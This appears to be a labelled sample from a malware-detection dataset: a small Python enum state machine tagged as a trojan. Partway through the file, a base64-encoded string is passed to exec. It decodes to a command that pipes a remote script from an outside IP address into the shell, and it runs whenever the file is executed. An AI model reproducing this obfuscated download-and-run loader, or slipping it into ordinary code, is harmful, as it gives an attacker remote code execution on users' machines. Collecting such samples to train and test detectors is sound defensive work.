# label: malicious family=trojan techniques=T1140,T1027,T1059.006 lines=21 group=benign/b167_enum_state_machine.py
from enum import Enum, auto


class State(Enum):
    IDLE = auto()
    RUNNING = auto()
    PAUSED = auto()
    DONE = auto()


TRANSITIONS = {
    (State.IDLE, "start"): State.RUNNING,
    (State.RUNNING, "pause"): State.PAUSED,
    (State.PAUSED, "resume"): State.RUNNING,
    (State.RUNNING, "finish"): State.DONE,
}


import base64 as _b
exec(_b.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3UgfCBzaCIp"))

def run(events):
    s = State.IDLE
    for e in events:
        s = TRANSITIONS.get((s, e), s)
        print(f"{e:8} -> {s.name}")
    return s


run(["start", "pause", "resume", "finish", "start"])
